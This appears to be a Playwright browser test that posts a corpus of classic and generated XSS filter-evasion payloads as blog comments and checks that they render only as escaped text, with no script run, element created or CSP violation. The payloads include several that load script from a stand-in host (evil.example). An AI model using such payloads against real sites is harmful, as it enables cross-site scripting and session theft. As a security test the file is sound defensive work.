/**
 * Issue 12: an XSS corpus (the classic filter-evasion payloads, OWASP cheat-sheet style, plus
 * generated ones) posted as comments through the API, approved through the admin API, and read
 * on the blog post in Chromium: no script runs, no element is made from a payload, no CSP
 * violation is reported, and names and comments are text, never links.
 */
import type { APIRequestContext, Page } from '@playwright/test';
import fc from 'fast-check';

import { signInThroughProvider } from './support/admin';
import { recordViolations, violationsOf } from './support/csp';
import { expect, test, waitForHydration } from './support/test';

// A post no other browser test reads comments of.
const POST_SLUG = 'warehouse-pick-routing';
const COMMENT_BODY_MAX = 2000;

declare global {
  interface Window {
    /** What ran: `xss()`, `alert()` … record their name, should a payload ever run. */
    __xssRan?: string[];
  }
}

/** The classic filter evasions; each one calls `xss()` (or `alert`) if it ever runs. */
const CLASSIC_PAYLOADS = [
  '<script>xss()</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:xss();">',
  '<IMG SRC=JaVaScRiPt:xss()>',
  '<IMG SRC=`javascript:xss()`>',
  '<a onmouseover="xss()">xxs link</a>',
  '<IMG """><SCRIPT>xss()</SCRIPT>">',
  '<IMG SRC=# onmouseover="xss()">',
  '<IMG SRC=/ onerror="xss()"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000120&#0000115&#0000115&#0000040&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#120;&#115;&#115;&#40;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x78&#x73&#x73&#x28&#x29>',
  '<IMG SRC="jav&#x09;ascript:xss();">',
  '<IMG SRC=" &#14;  javascript:xss();">',
  '<SCRIPT/XSS SRC="//evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=xss()>',
  '<<SCRIPT>xss();//\\<</SCRIPT>',
  '<IMG SRC="`<javascript:xss()>`',
  '<iframe src=//evil.example/scriptlet.html <',
  '\\";xss();//',
  '</TITLE><SCRIPT>xss();</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:xss();">',
  '<BODY BACKGROUND="javascript:xss()">',
  '<STYLE>li {list-style-image: url("javascript:xss()");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
  '<details open ontoggle=xss()>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<object data="javascript:xss()">',
  '<embed src="javascript:xss()">',
  '<form><button formaction=javascript:xss()>X</button></form>',
  '<a href="javascript:xss()">click</a>',
  '<a href="jAvAsCrIpT&colon;xss()">click</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
  '<base href="javascript:xss()//">',
  '<template><img src=x onerror=xss()></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<!--<img src="--><img src=x onerror=xss()//">',
  '<x contenteditable onfocus=xss() autofocus>',
  '<video><source onerror="xss()">',
  '<audio src=x onerror=alert(1)>',
  '"><script>xss()</script>',
  "'><img src=x onerror=xss()>",
  'javascript:xss()',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  "{{constructor.constructor('xss()')()}}",
  '${xss()}',
  '\u2028<script>xss()</script>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '%3Cscript%3Exss()%3C/script%3E',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '</textarea><script>xss()</script>',
  '</script><script>xss()</script>',
  '<img src=x:xss(alt) onerror=eval(src) alt=0>',
  '<a href="https://evil.example" target=_blank>a link</a>',
  'https://evil.example/?q=<script>xss()</script>',
];

/** Tags, handlers and the ways a filter is dodged, put together at random (a fixed seed). */
const generatedPayload = fc
  .record({
    tag: fc.constantFrom(
      'img src=x',
      'svg',
      'body',
      'video src=x',
      'iframe',
      'details open',
      'input autofocus',
      'marquee',
      'object data=x',
      'style',
    ),
    handler: fc.constantFrom(
      'onerror',
      'onload',
      'onfocus',
      'ontoggle',
      'onstart',
      'onmouseover',
      'onanimationstart',
      'onbegin',
    ),
    call: fc.constantFrom(
      'xss()',
      'alert(1)',
      'top["xss"]()',
      'eval("xss()")',
      '[].constructor.constructor("xss()")()',
    ),
    shape: fc.constantFrom(
      (tag: string, handler: string, call: string) => `<${tag} ${handler}=${call}>`,
      (tag: string, handler: string, call: string) =>
        `<${tag.toUpperCase()} ${handler.toUpperCase()}="${call}">`,
      (tag: string, handler: string, call: string) =>
        `<${tag.replace(' ', '/')}/${handler}=${call}//`,
      (tag: string, handler: string, call: string) => `"><${tag}\n${handler}='${call}'>`,
      (tag: string, handler: string, call: string) => `</p><${tag} ${handler}=${call} x=">`,
    ),
  })
  .map(({ tag, handler, call, shape }) => shape(tag, handler, call));
const GENERATED_PAYLOADS = fc.sample(generatedPayload, { numRuns: 60, seed: 20261125 });

// Names are one line of at most 80 characters.
const NAME_PAYLOADS = [
  '<img src=x onerror=xss()>',
  '"><svg onload=xss()>',
  '<script>xss()</script>',
  '<a href="javascript:xss()">Ana</a>',
];

/** The corpus packed into comment bodies of at most 2000 characters, one payload a line. */
function packIntoBodies(payloads: readonly string[]): string[] {
  const bodies: string[] = [];
  let current = '';
  for (const payload of payloads) {
    const next = current ? `${current}\n${payload}` : payload;
    if (next.length > COMMENT_BODY_MAX) {
      bodies.push(current);
      current = payload;
    } else current = next;
  }
  return current ? [...bodies, current] : bodies;
}

interface PostedComment {
  id: number;
  name: string;
  body: string;
}

async function postCorpus(request: APIRequestContext): Promise<PostedComment[]> {
  const bodies = packIntoBodies([...CLASSIC_PAYLOADS, ...GENERATED_PAYLOADS]);
  const posted: PostedComment[] = [];
  for (const [index, body] of bodies.entries()) {
    const name = NAME_PAYLOADS[index % NAME_PAYLOADS.length] ?? 'Ana';
    const res = await request.post(`/api/blog/${POST_SLUG}/comments`, { data: { name, body } });
    expect(res.status(), await res.text()).toBe(201);
    posted.push({ id: ((await res.json()) as { data: { id: number } }).data.id, name, body });
  }
  return posted;
}

/** Signs in through the embedded provider and approves the comments with the admin API. */
async function approve(page: Page, ids: number[]): Promise<void> {
  await page.goto('/login');
  await waitForHydration(page);
  await signInThroughProvider(page);
  const token = await page.evaluate(() => window.localStorage.getItem('oidc.access_token'));
  const res = await page.request.post('/api/admin/blog-comment/review', {
    headers: { Authorization: `Bearer ${token}` },
    data: { ids, status: 'approved' },
  });
  expect(res.status(), await res.text()).toBe(200);
}

/** In every document: `xss()`, `alert()` and friends record a run, and CSP violations are recorded. */
async function watchForScripts(page: Page): Promise<void> {
  await recordViolations(page);
  await page.addInitScript(() => {
    window.__xssRan = [];
    const ran = (how: string) => () => {
      window.__xssRan?.push(how);
    };
    Object.assign(window, {
      xss: ran('xss'),
      alert: ran('alert'),
      confirm: ran('confirm'),
      prompt: ran('prompt'),
    });
  });
}

/** What a rendered comment holds: its name and text nodes, and any element inside either. */
async function renderedComments(page: Page) {
  return page.locator('.comments__item').evaluateAll((items) =>
    items.map((item) => {
      const textOnly = (selector: string) => {
        const element = item.querySelector(selector);
        const nodes = element ? [...element.childNodes] : [];
        return {
          text: element?.textContent ?? null,
          onlyText: nodes.every((node) => node.nodeType === Node.TEXT_NODE),
        };
      };
      return { name: textOnly('.comments__name'), body: textOnly('.comments__text') };
    }),
  );
}

/** Points at, focuses and hovers every comment, for handlers that wait for a person. */
async function interactWithComments(page: Page): Promise<void> {
  const items = page.locator('.comments__item');
  for (let index = 0; index < (await items.count()); index += 1) {
    await items.nth(index).hover();
  }
  for (let step = 0; step < 10; step += 1) await page.keyboard.press('Tab');
}

async function expectTextOnly(page: Page, posted: PostedComment[]): Promise<void> {
  const rendered = await renderedComments(page);
  for (const comment of posted) {
    expect(rendered).toContainEqual({
      name: { text: comment.name, onlyText: true },
      // The API stores the text trimmed (a leading U+2028 goes).
      body: { text: comment.body.trim(), onlyText: true },
    });
  }
  // Nothing a payload could have made exists in the list; no user text became a link.
  const made = await page
    .locator('.comments__list')
    .locator(
      'script, img, svg, iframe, object, embed, a, form, input, button, video, audio, style, meta, base, template, details, math, marquee, body, noscript, textarea, x',
    )
    .count();
  expect(made).toBe(0);
  await interactWithComments(page);
  expect(await page.evaluate(() => window.__xssRan)).toEqual([]);
  expect(await violationsOf(page)).toEqual([]);
}

test('the XSS corpus, approved, renders as text on the blog post: nothing runs, nothing is made, no CSP violation', async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  const posted = await postCorpus(request);
  await approve(
    page,
    posted.map((comment) => comment.id),
  );
  await watchForScripts(page);

  // Server-rendered: the HTML carries every payload escaped, in the markup and the hydration data.
  const html = await (await page.request.get(`/tech-blog/${POST_SLUG}`)).text();
  const leaked = [...CLASSIC_PAYLOADS, ...GENERATED_PAYLOADS, ...NAME_PAYLOADS].flatMap(
    (payload) => {
      const tag = /<\/?[a-z!]/i.exec(payload);
      const markup = tag ? payload.slice(tag.index, tag.index + 24) : null;
      return markup && html.includes(markup) ? [markup] : [];
    },
  );
  expect(leaked).toEqual([]);
  await page.goto(`/tech-blog/${POST_SLUG}`);
  await waitForHydration(page);
  await expectTextOnly(page, posted);

  // Rendered in the browser: from the list to the post without a page load.
  await page.goto('/tech-blog');
  await waitForHydration(page);
  await page.locator(`a[href="/tech-blog/${POST_SLUG}"]`).first().click();
  await expect(page).toHaveURL(new RegExp(`/tech-blog/${POST_SLUG}$`));
  await expect(page.locator('.comments__item').first()).toBeVisible();
  await expectTextOnly(page, posted);
});
